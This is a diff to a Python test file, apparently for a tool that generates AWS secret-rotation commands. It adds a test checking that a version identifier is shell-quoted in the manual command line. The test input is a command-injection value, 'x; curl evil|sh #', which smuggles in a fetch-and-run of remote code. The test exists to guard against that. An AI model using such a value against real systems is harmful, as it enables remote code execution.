@@ -2,6 +2,7 @@
 
 import base64
 import json
+import shlex
 from collections.abc import AsyncIterator, Mapping
 from dataclasses import dataclass
 from pathlib import Path
@@ -171,3 +172,9 @@ async def test_what_aws_refuses_is_a_sentence_without_aws_own_words(
 def test_a_field_of_a_key_that_is_not_there_is_refused() -> None:
     with pytest.raises(ValidationError, match="`OTHER` is not one of `keys`"):
         rotations("https://aws.example", fields={"OTHER": "x"})
+
+
+async def test_the_line_for_a_person_contains_no_command_that_a_version_in_aws_is_named_like(here: Place) -> None:
+    step = (await here.step(rotations(here.url))).model_copy(update={"version": "x; curl evil|sh #"})
+    (line,) = step.by_hand()
+    assert f"--version-id {shlex.quote(step.version)} --query" in line
